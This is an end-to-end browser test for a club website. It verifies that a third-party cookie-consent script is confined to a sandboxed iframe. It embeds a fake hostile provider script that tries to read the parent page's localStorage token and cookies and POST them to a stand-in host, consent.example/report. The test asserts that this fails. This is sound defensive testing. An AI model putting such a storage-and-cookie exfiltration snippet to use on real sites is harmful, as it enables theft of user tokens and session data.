import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { open, workerBrowser } from "./setup/browser";
import { type OwnPlatform, startOwnPlatform } from "./setup/own-platform";

// A club whose cookie consent is an external provider's script (docs/security.md, "The sandboxed consent frame").
// The provider is a local fake served at its own https URL, so the page's CSP and the frame's apply as in production.
// It tries what a hostile script would: to read the page's storage, and to tell its own origin what it saw.

const PROVIDER = "https://consent.example";

/**
 * A consent provider's script, faked: a bar with "Accept cookies" until its cookie says so; it reports what it can
 * read of the page to its own origin.
 */
const FAKE_PROVIDER = `(() => {
  let parentSecret = "unreadable";
  try { parentSecret = String(parent.localStorage.getItem("e2e.secret")); } catch {}
  const report = (event) => fetch("${PROVIDER}/report", { method: "POST", body: JSON.stringify({
    event, parentSecret, ownSecret: localStorage.getItem("e2e.secret"), cookie: document.cookie, origin: String(self.origin),
  }) }).catch(() => {});
  const show = () => {
    if (document.getElementById("cmp")) return;
    const bar = document.createElement("div");
    bar.id = "cmp";
    bar.style.cssText = "position:fixed;left:0;right:0;bottom:0;padding:16px;background:#fff;font:16px sans-serif";
    bar.innerHTML = "<p>We use cookies.</p><button type=button>Accept cookies</button>";
    bar.querySelector("button").onclick = () => {
      document.cookie = "cmp=accepted; max-age=31536000; path=/";
      bar.remove();
      report("accepted");
    };
    document.body.appendChild(bar);
  };
  if (!/cmp=accepted/.test(document.cookie)) show();
  report("loaded");
})();`;

interface Report {
  event: string;
  parentSecret: string;
  ownSecret: string | null;
  cookie: string;
  origin: string;
}

let browser: Browser;
let site: OwnPlatform;
beforeAll(async () => {
  [browser, site] = await Promise.all([
    workerBrowser(),
    startOwnPlatform({
      name: "external consent",
      statements: [
        {
          text: "update clubs set settings = jsonb_set(settings, '{consent}', $1::jsonb) where id = $2",
          params: [
            JSON.stringify({
              provider: "external",
              scriptUrl: { it: `${PROVIDER}/it.js`, en: `${PROVIDER}/en.js` },
              policyUrl: { it: "/it/pages/cookie", en: "/en/pages/cookie" },
            }),
            "castelvecchio",
          ],
        },
      ],
    }),
  ]);
});
afterAll(async () => {
  await site?.stop();
});

describe("an external consent provider", () => {
  it("asks in its sandboxed frame, can't read the page's storage, and its choice is remembered", async () => {
    const { page, context, problems } = await open(browser, "en", { consent: false });
    // What a member's token would be: in the page's localStorage.
    await context.addInitScript(() => {
      if (window.top === window) localStorage.setItem("e2e.secret", "the-token");
    });
    const reports: Report[] = [];
    const fromPage: string[] = [];
    await context.route(`${PROVIDER}/**`, async (route) => {
      const request = route.request();
      if (request.frame() === page.mainFrame()) fromPage.push(request.url());
      if (new URL(request.url()).pathname === "/report") {
        reports.push(JSON.parse(request.postData() ?? "{}"));
        return route.fulfill({ status: 204, headers: { "Access-Control-Allow-Origin": "*" } });
      }
      return route.fulfill({ status: 200, contentType: "text/javascript", body: FAKE_PROVIDER });
    });

    const answer = await page.goto(`${site.baseUrl}/en/`);
    expect(answer?.headers()["content-security-policy"]).not.toContain("consent.example");
    const frame = page.locator('iframe[data-club-consent="en"]');
    const accept = page
      .frameLocator('iframe[data-club-consent="en"]')
      .getByRole("button", { name: "Accept cookies" });
    await accept.waitFor();
    // The frame is as tall as the provider's bar, at the bottom of the viewport.
    await expect.poll(async () => (await frame.boundingBox())?.height ?? 0).toBeGreaterThan(40);
    await expect.poll(() => reports.length).toBeGreaterThan(0);
    expect(reports[0]).toEqual({
      event: "loaded",
      parentSecret: "unreadable",
      ownSecret: null,
      cookie: "",
      origin: "null",
    });

    await accept.click();
    await expect.poll(async () => (await frame.boundingBox())?.height).toBe(0);
    const kept = await page.evaluate(() => localStorage.getItem("club.consent.frame"));
    expect(JSON.parse(kept ?? "{}")).toEqual({ "c:cmp": "accepted" });

    // The next visit: the provider finds its cookie and does not ask.
    reports.length = 0;
    await page.reload();
    await expect.poll(() => reports.find((report) => report.event === "loaded")?.cookie).toBe("cmp=accepted");
    expect(await accept.count()).toBe(0);

    // The page itself never asked the provider for anything: only its frame did.
    expect(fromPage).toEqual([]);
    expect(problems).toEqual([]);
  });
});
